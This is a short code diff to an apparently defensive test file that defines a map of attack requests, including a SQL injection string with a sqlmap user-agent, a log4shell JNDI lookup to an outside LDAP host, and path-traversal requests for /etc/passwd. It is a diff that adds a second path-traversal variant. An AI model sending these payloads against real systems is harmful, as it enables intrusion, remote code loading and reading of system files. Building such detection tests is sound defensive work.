@@ -26,5 +26,6 @@ export const ATTACKS: Readonly<Record<string, (index: number) => Malicious>> = {
   "SQL injection, sqlmap": (index) =>
     wiki(`/search?term=${index}%27%20AND%20${index}%3D${index}`, { "user-agent": "sqlmap/1.8.4#stable (https://sqlmap.org)" }),
   log4shell: (index) => wiki(`/search?term=$%7Bjndi:ldap://203.0.113.9/${index}%7D`),
-  "path traversal": (index) => wiki(`/books/${"../".repeat(1 + (index % 8))}etc/passwd`),
+  "path traversal in a parameter": (index) => wiki(`/search?term=${"../".repeat(1 + (index % 8))}etc/passwd`),
+  "path traversal in the path": (index) => wiki(`/books/${"../".repeat(1 + (index % 8))}etc/passwd`),
 };
